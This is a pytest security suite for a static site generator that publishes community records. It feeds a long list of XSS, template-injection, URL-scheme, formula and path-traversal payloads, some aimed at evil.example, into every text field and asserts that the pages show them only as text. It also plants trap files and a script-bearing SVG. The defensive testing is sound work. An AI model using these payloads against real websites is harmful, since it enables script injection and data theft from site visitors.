"""D30 to D36 and D38: whatever a record says, in whichever field, a page shows it as words and does nothing with it.

The fields come from the schemas, so a new field is attacked from its first day. Each build puts a payload into every
free text of every record of the golden community, each field another one; over all builds every field has had every
payload. A harmless build with a mark in each field tells what the page must look like: the same elements with the same
attributes, and at each mark the payload to the letter. Only rich text may add elements, and only those of its list.
"""
# SPDX-License-Identifier: Apache-2.0

import hashlib
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Route

from minutebook.model.ids import path_of
from minutebook.model.record import Record
from minutebook.publish.prose import TAGS, rich
from minutebook.publish.site import Gathered, files, gather, refused
from minutebook.store.archive import load
from minutebook.store.canonical import rendered
from minutebook.store.contract import Shape, house_contract
from minutebook.store.source import WorkingTree
from tests.dom import Element, parsed

ROOT = Path(__file__).parents[2]
GOLDEN = ROOT / "tests/golden"
AS_OF = "2026-11-20"
FRAMES = 8
HOST = "http://site.test/"
STORY = "matter/2026-03-02-rain-shelter/index.html"
VOTE = "vote/2026-09-15-square-name/index.html"
MEETING = "meeting/2026-03-15-household-meeting/index.html"
NOTICE = "notice/2026-11-15-lights/index.html"

PAYLOADS = (
    "</title><script>alert(1)</script>",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x></form>",
    "</details></section></main></body></html><h1>x</h1>",
    "<!-- --> <!--",
    "]]><![CDATA[x]]>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&quot;&nbsp;&bogus;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/notice/)",
    "[x](http://evil.example)",
    "[x]: javascript:alert(1) 'y' [x]",
    "<javascript:alert(1)>",
    "<https://evil.example/?a=1&b=2>",
    "https://evil.example/ www.evil.example me@evil.example",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "**x** _y_ `z` ~~w~~ # q > r",
    "x {onerror=alert(1)}",
    "x {: style=position:fixed onclick=alert(1) }",
    "{#id .class onclick=alert(1)}",
    "!!! danger 'x' ??? note",
    "--8<-- 'mkdocs.yml'",
    "{% include 'parts.html' %} {{ 7*7 }} {# x #}",
    "{{ config.__class__.__mro__ }} ${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} {title} {since:day} %s %(x)s {}",
    "MBXTITLEXMB MBXDESCRIPTIONXMB MBXBODYXMB mbxshape",
    "\\1 \\g<0> $1 $& \\u003cscript\\u003e",
    "=HYPERLINK('http://evil.example') +1 -1 @SUM(1)",
    "../../../etc/passwd ..%2f..%2f %00 %0d%0aSet-Cookie:x",
    "；DROP TABLE 表决； ' OR 1=1 --",
)
PLACE = re.compile("标([0-9]+)记")
COPIED = "-copied"  # The rules and procedures of the pack are attacked in copies of them.
SCHEMES = {"", "https", "mailto", "tel"}
PROSE = {name: {"a": {"href", "rel"}, "ol": {"start"}, "code": {"class"}}.get(name, set()) for name in TAGS}


@dataclass
class Hostile:
    """The golden community with every free text replaced; `said` is asked for the text of the field of this number."""

    said: Callable[[int, bool], str]
    count: int = 0
    places: list[tuple[str, str]] = field(default_factory=list)

    def record(self, record: Record) -> dict[str, Any]:
        """The record with its texts replaced and with every optional text that names no other record added."""
        form = house_contract().current(record.kind)
        assert form is not None
        found = self._value(form.shape, dict(record.data), record.kind, "")
        assert isinstance(found, dict)
        return found

    def _value(self, shape: Shape, value: Any, kind: str, path: str) -> Any:
        if shape.kind == "map":
            names = [name for name in shape.fields if name in value or _can_be_added(shape.fields[name])]
            return {
                name: self._value(
                    shape.fields[name],
                    value[name] if name in value else _least(shape.fields[name], kind),
                    kind,
                    f"{path}/{name}".lstrip("/"),
                )
                for name in names
            }
        if shape.kind == "list" and shape.item is not None:
            return [self._value(shape.item, one, kind, path) for one in value]
        if not _is_free(shape) or (kind, path) in CHECKED:
            return value
        text = self.said(self.count, shape.rich)
        self.count += 1
        self.places.append((kind, path))
        return text + "\n" if shape.rich else text


# These hold a place in another record or a file's path: they are compared with what is there, not printed as they are.
CHECKED = {("correction", "changes/field")} | {
    (form.kind, "attachments/path") for form in house_contract().forms.values()
}
ABSENT = {"media_type": "application/pdf", "bytes": 1, "sha256": "0" * 64, "description": ""}


def _is_free(shape: Shape) -> bool:
    """Whether a field takes any text at all."""
    return (
        shape.kind == "text"
        and not shape.refers_to
        and not {"enum", "pattern", "const", "format"} & shape.schema.keys()
    )


def _can_be_added(shape: Shape) -> bool:
    """Whether an optional field can be filled without claiming anything about another record or a count."""
    parts = [*shape.fields.values(), *([shape.item] if shape.item else [])]
    if not parts:
        return _is_free(shape)
    return shape.attachment or all(_can_be_added(part) or part.titles["en"] == "Phone" for part in parts)


def _least(shape: Shape, kind: str) -> Any:
    """The smallest value of an optional field that can be added; its texts are replaced afterwards."""
    if shape.attachment:
        return {"path": f"2026/{kind}.pdf", **ABSENT}
    if shape.kind == "map":
        return {name: _least(part, kind) for name, part in shape.fields.items()}
    if not _is_free(shape) and shape.kind == "text":
        return shape.examples[0]
    return [_least(shape.item, kind)] if shape.item is not None else ""


def free_texts() -> set[tuple[str, str]]:
    """Every free text of every schema, as kind and path."""

    def walk(shape: Shape, kind: str, path: str) -> Iterator[tuple[str, str]]:
        if _is_free(shape) and (kind, path) not in CHECKED:
            yield kind, path
        for name, part in shape.fields.items():
            yield from walk(part, kind, f"{path}/{name}".lstrip("/"))
        if shape.item is not None:
            yield from walk(shape.item, kind, path)

    return {found for form in house_contract().forms.values() for found in walk(form.shape, form.kind, "")}


def hostile_folder(folder: Path, said: Callable[[int, bool], str], *, settings: bool = False) -> Hostile:
    """Writes the golden community with its texts replaced: those of its settings, or those of everything else."""
    hostile = Hostile(said)
    found: dict[str, dict[str, Any]] = {}
    for record in load(WorkingTree(root=GOLDEN)).archive:
        attacked = (record.kind == "settings") == settings
        data = hostile.record(record) if attacked else dict(record.data)
        if not record.path.startswith("records/"):
            data["id"] += COPIED
        if record.kind == "matter":
            data["procedure"] += COPIED
        found[record.id] = data
    for data in found.values():
        if data["schema"].startswith("correction/"):
            data["changes"] = [_true_to(found[data["corrects"]], change) for change in data["changes"]]
        if data.get("office_kind") == "leaving":  # Whoever leaves an office leaves the one that was taken.
            data |= {name: found[data["ends"]][name] for name in ("post", "holder")}
    for data in found.values():
        path = path_of(data["id"])
        assert path is not None
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(rendered(house_contract().form(data["schema"]), data))
    shutil.copytree(GOLDEN / "records/attachments", folder / "records/attachments", dirs_exist_ok=True)
    return hostile


def _true_to(corrected: Mapping[str, Any], change: dict[str, str]) -> dict[str, str]:
    """A change that quotes what the corrected record really says; of a number, the numbers it had."""
    value: Any = corrected
    for step in change["field"].split("/"):
        value = value[int(step)] if isinstance(value, list) else value[step]
    return (
        {**change, "old": value} if isinstance(value, str) else {**change, "old": f"{value}\n", "new": f"{value + 1}\n"}
    )


def gathered(folder: Path) -> Gathered:
    found = gather(folder, as_of=AS_OF)
    assert refused(found.problems) == ()
    return found


def pages_of(folder: Path, cache: Path) -> dict[str, bytes]:
    return {path: content for path, content in files(gathered(folder), cache=cache) if path.endswith(".html")}


def marked(number: int, _rich: bool) -> str:
    return f"标{number}记"


def payload_at(number: int, turn: int) -> str:
    """What stands in a field: the payload whose turn it is, told apart from the same one elsewhere."""
    return f"{PAYLOADS[(number + turn) % len(PAYLOADS)]} 第{number}处"


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("frames")


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory, cache: Path) -> dict[str, Element]:
    folder = tmp_path_factory.mktemp("harmless")
    hostile_folder(folder, marked)
    return {path: parsed(content) for path, content in pages_of(folder, cache).items()}


def outline(page: Element) -> list[tuple[str, tuple[str, ...]]]:
    """Every element with the names of its attributes, without those that rich text may have."""
    return [
        (one.tag, tuple(one.attributes))
        for one in _without_comparisons(page)
        if one.tag not in PROSE or not one.attributes.keys() <= PROSE[one.tag]
    ]


def _without_comparisons(page: Element) -> Iterator[Element]:
    """What `mb-compare` holds is cut into words, so the same text is cut differently; only its own list is held to."""
    if "mb-compare" in page.attributes.get("class", ""):
        assert {one.tag for one in page} <= {"div", "p", "span", "ins", "del"}
        return
    yield page
    for part in page.content:
        if isinstance(part, Element):
            yield from _without_comparisons(part)


def words(page: Element) -> str:
    if "mb-compare" in page.attributes.get("class", ""):
        return ""
    return "".join(part if isinstance(part, str) else words(part) for part in page.content)


def assert_only_words_changed(
    harmless: Mapping[str, Element], hostile: Mapping[str, bytes], said: Callable[[int], str]
) -> set[int]:
    """The numbers of the fields seen on the pages, each of which shows its payload to the letter and nothing more."""
    seen: set[int] = set()
    assert harmless.keys() == hostile.keys()
    for path, content in hostile.items():
        page = parsed(content)
        assert outline(page) == outline(harmless[path]), path
        for one in page:
            assert not [name for name in one.attributes if name.startswith("on") or name in ("style", "srcdoc")], path
            for name in ("href", "src", "action", "formaction", "xlink:href"):
                if name in one.attributes:
                    assert urlsplit(one.attributes[name]).scheme in SCHEMES, (path, one.attributes[name])
        seen |= _shown(path, PLACE.split(words(harmless[path])), words(page), said)
    return seen


def _shown(path: str, expected: list[str], text: str, said: Callable[[int], str]) -> set[int]:
    """The numbers of the fields a page shows; fails at the first that it shows otherwise than to the letter."""
    assert text.startswith(expected[0]), path
    at = len(expected[0])
    for number, after in zip(expected[1::2], expected[2::2], strict=True):
        payload = said(int(number))
        as_rich = parsed(rich(payload)).text.strip()
        quoted = f"{payload[:60]}…（{len(payload)}）"  # A message about a long value quotes its beginning.
        told = next((one for one in (payload, as_rich, quoted) if text.startswith(one + after, at)), None)
        assert told is not None, f"{path}: field {number} says {payload!r}, the page shows {text[at : at + 150]!r}"
        at += len(told + after)
    return set(map(int, expected[1::2]))


def test_every_free_text_of_every_schema_is_attacked(tmp_path: Path) -> None:
    everything = hostile_folder(tmp_path, marked).places + hostile_folder(tmp_path, marked, settings=True).places
    assert free_texts() - set(everything) == set()
    assert len(free_texts()) > 150
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("turn", range(len(PAYLOADS)))
def test_a_payload_in_any_field_is_words_and_nothing_else(
    turn: int, tmp_path: Path, cache: Path, harmless: dict[str, Element]
) -> None:
    hostile_folder(tmp_path, lambda number, _rich: payload_at(number, turn))
    seen = assert_only_words_changed(harmless, pages_of(tmp_path, cache), lambda number: payload_at(number, turn))
    assert len(seen) > 250


def test_a_payload_in_the_settings_changes_no_element_of_the_frame_or_the_pages(tmp_path: Path, cache: Path) -> None:
    """The settings decide the frame too, which takes a second to draw, so here each field has many payloads at once."""
    hostile_folder(tmp_path / "harmless", marked, settings=True)
    harmless = {path: parsed(content) for path, content in pages_of(tmp_path / "harmless", cache).items()}
    for turn in range(FRAMES):
        folder = tmp_path / str(turn)

        def said(number: int, _rich: bool = False, turn: int = turn) -> str:
            chosen = PAYLOADS[(number + turn) % FRAMES :: FRAMES]
            return f"{' '.join(chosen)[:280]} 第{number}处"

        hostile_folder(folder, said, settings=True)
        seen = assert_only_words_changed(harmless, pages_of(folder, cache), said)
        assert len(seen) > 5


@pytest.mark.parametrize(("kind", "path"), sorted(CHECKED))
def test_a_field_that_names_a_place_or_a_file_takes_no_payload(tmp_path: Path, kind: str, path: str) -> None:
    payload = PAYLOADS[len(kind) % 6] if len(kind) % 2 else "../../mkdocs.yml"
    hostile_folder(tmp_path, marked, settings=kind == "settings")
    form = house_contract().current(kind)
    assert form is not None
    name, key = path.split("/")
    archive = load(WorkingTree(root=tmp_path)).archive
    record = next(one for one in archive.of_kind(kind) if name in one.data and one.path.startswith("records/"))
    data = dict(record.data)
    data[name] = [{**data[name][0], key: payload}]
    (tmp_path / record.path).write_bytes(rendered(form, data))
    assert record.path in {problem.path for problem in refused(gather(tmp_path, as_of=AS_OF).problems)}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rich_text_yields_only_its_listed_elements_and_its_listed_schemes(payload: str) -> None:
    for text in (payload, f"{payload}\n{payload}", f"> {payload}", f"- {payload}\n  {payload}", f"\n\n    {payload}"):
        for one in parsed(rich(text)):
            assert one.tag in {*PROSE, ""}, text
            assert one.attributes.keys() <= PROSE.get(one.tag, set()), text
            if "href" in one.attributes:
                assert urlsplit(one.attributes["href"]).scheme in {"https", "mailto"}, text
                assert one.attributes["rel"] == "noopener noreferrer nofollow"


def test_rich_text_keeps_what_it_is_for() -> None:
    assert rich("**粗** *斜* `码` [链](https://a.example/?b=1&c) <me@a.example>\n\n1. 一\n2. 二\n\n> 引\n") == (
        "<p><strong>粗</strong> <em>斜</em> <code>码</code> "
        '<a href="https://a.example/?b=1&amp;c" rel="noopener noreferrer nofollow">链</a> '
        '<a href="mailto:me@a.example" rel="noopener noreferrer nofollow">me@a.example</a></p>\n'
        "<ol>\n<li>一</li>\n<li>二</li>\n</ol>\n<blockquote>\n<p>引</p>\n</blockquote>\n"
    )


NESTED = (
    "[",
    "*",
    ">",
    "_",
    "`",
    "- ",
    "> - ",
    "![",
    "[a](",
    "**a ",
    "*a **a ",
    "<",
    "&",
    "\\",
    "a\n",
    "[x]: y\n",
    "`a``",
    "((",
)


def test_deeply_nested_marks_cost_no_more_than_moments() -> None:
    """Each is the longest text a field takes, or twenty thousand fold; only a hang would reach the guard."""
    program = (
        "import sys, json; from minutebook.publish.prose import rich\n"
        "for mark in json.loads(sys.argv[1]):\n"
        "    for text in ((mark * 20000)[:60000], (mark * 20000)[:59990] + 'x', mark * 200 + 'x' + '](y)' * 200):\n"
        "        rich(text)\n"
        "print('through')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, json.dumps(NESTED)],
        env={"PYTHONPATH": str(ROOT / "tools")},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert done.stdout == "through\n"


TRAPS = {
    "mkdocs.yml": "site_name: 别人的\nhooks: [hook.py]\ntheme: {name: material, custom_dir: overrides}\n",
    "hook.py": "open('ran', 'w')\n",
    "conftest.py": "open('ran', 'w')\n",
    "sitecustomize.py": "open('ran', 'w')\n",
    "overrides/main.html": "<script>alert(1)</script>{% do 1 %}",
    "site/templates/story.html": "{{ 7*7 }}<script>alert(1)</script>",
    "site/overrides/main.html": "<script>alert(1)</script>",
    "site/pages/how-to-read.md": "# 别人写的\n",
    "site/assets/minutebook.css": "*{display:none}",
    "site/locale/zh-CN.yml": "site.name: 别人的\n",
    "schemas/matter-1.json": "{}",
    "tools/minutebook/__init__.py": "open('ran', 'w')\n",
    "minutebook/__init__.py": "open('ran', 'w')\n",
    "docs/index.md": "# x\n",
    "site/index.html": "x",
}


def test_nothing_but_records_is_taken_from_a_records_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cache: Path
) -> None:
    plain = dict(files(gather(GOLDEN, as_of=AS_OF), cache=None))
    shutil.copytree(GOLDEN / "records", tmp_path / "records")
    for path, text in TRAPS.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert dict(files(gathered(tmp_path), cache=None)) == plain
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("path", ["mkdocs.yml", "hook.py", "overrides/main.html", "matter/2026/x.html", "index.md"])
def test_configuration_and_templates_among_the_records_are_refused(tmp_path: Path, path: str) -> None:
    shutil.copytree(GOLDEN / "records", tmp_path / "records")
    (tmp_path / "records" / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / "records" / path).write_text("x: y\n", encoding="utf-8")
    problems = refused(gather(tmp_path, as_of=AS_OF).problems)
    assert {problem.path for problem in problems} == {f"records/{path}"}


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    ("name", "media_type"), [("x.svg", "image/svg+xml"), ("x.svg", "image/png"), ("x.html", "text/plain")]
)
def test_a_drawing_that_can_run_scripts_is_refused(tmp_path: Path, name: str, media_type: str) -> None:
    shutil.copytree(GOLDEN / "records", tmp_path / "records")
    (tmp_path / "records/attachments/2026" / name).write_bytes(SVG)
    file = tmp_path / "records/matter/2026/2026-09-20-lights.yaml"
    digest = hashlib.sha256(SVG).hexdigest()
    listed = f"  - path: 2026/{name}\n    media_type: {media_type}\n    bytes: {len(SVG)}\n    sha256: {digest}\n"
    file.write_text(f"{file.read_text('utf-8')}attachments:\n{listed}    description: 图\n", encoding="utf-8")
    assert refused(gather(tmp_path, as_of=AS_OF).problems) != ()


def test_a_browser_meets_no_dialog_no_console_line_and_no_foreign_request(
    browser: Browser, tmp_path: Path, cache: Path
) -> None:
    faults: list[str] = []
    context = browser.new_context()
    page = context.new_page()
    page.on("dialog", lambda dialog: faults.append(dialog.message))
    page.on("console", lambda message: faults.append(message.text))
    page.on("pageerror", lambda error: faults.append(str(error)))
    served: dict[str, bytes] = {}

    def answer(route: Route) -> None:
        path = route.request.url.removeprefix(HOST)
        kind = "text/css" if path.endswith(".css") else "image/svg+xml" if path.endswith(".svg") else "text/html"
        if path in served:
            route.fulfill(body=served[path], content_type=kind)
        else:
            faults.append(f"asked for {route.request.url}")
            route.abort()

    page.route("**/*", answer)
    for turn in (0, 17, 34):
        hostile_folder(tmp_path / str(turn), lambda number, _rich, turn=turn: payload_at(number, turn))
        served.update(files(gathered(tmp_path / str(turn)), cache=cache))
        for path in ("index.html", STORY, VOTE, MEETING, NOTICE):
            page.goto(HOST + path)
            page.evaluate("document.querySelectorAll('details').forEach(it => it.open = true)")
            assert page.locator("main").count() == page.locator("body").count() == 1
            assert page.evaluate("document.scripts.length") == 0
            assert page.evaluate("document.querySelectorAll('iframe, object, embed, style').length") == 0
    context.close()
    assert faults == []
